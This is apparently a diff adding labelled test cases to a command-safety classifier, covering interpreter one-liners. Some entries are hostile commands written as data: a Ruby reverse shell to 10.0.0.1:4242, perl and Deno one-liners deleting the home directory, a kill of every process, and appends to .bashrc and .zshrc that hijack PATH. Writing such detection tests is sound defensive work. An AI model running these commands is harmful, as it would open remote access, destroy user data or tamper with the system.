@@ -5800,6 +5800,22 @@ ROUND4 += [
     (C, "docker run -v /:/host alpine ls /host", "G169"),
     (N, "docker run --rm -it alpine sh"),
 ]
+ROUND4 += [
+    # interpreter one-liners: code joined to -e (perl, ruby, lua), signal names, Deno.remove, perl's open for writing
+    (B, "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", "G144"),
+    (B, "perl -e'system(\"rm -rf ~\")'", "G101"),
+    (A, "ruby -e'puts 1'", "G119"),
+    (A, "perl -e'print 1'", "G119"),
+    (B, "python3 -c \"import os, signal; os.kill(-1, signal.SIGKILL)\"", "G172"),
+    (C, "python3 -c \"import os, signal; os.kill(4242, signal.SIGTERM)\"", "G178"),
+    (B, "deno eval \"await Deno.remove(Deno.env.get('HOME'), {recursive: true})\"", "G101"),
+    (A, "deno eval \"await Deno.remove('dist', {recursive: true})\"", "G400"),
+    (C, "perl -e 'open(F, \">>\", \"$ENV{HOME}/.zshrc\"); print F \"export PATH=/tmp/bin:$PATH\"'", "G151"),
+    (C, "perl -e 'open(F, \">>$ENV{HOME}/.bashrc\"); print F 1'", "G151"),
+    (C, "perl -e 'open(my $fh, \">\", $ARGV[0]); print $fh 1'", "G118"),
+    (A, "perl -e 'open(my $fh, \">\", \"out.txt\"); print $fh 1'", "G184"),
+    (A, "perl -e 'open(my $fh, \"<\", \"in.txt\"); print <$fh>'"),
+]
 FAMILIES["round4"] = ROUND4
 
 
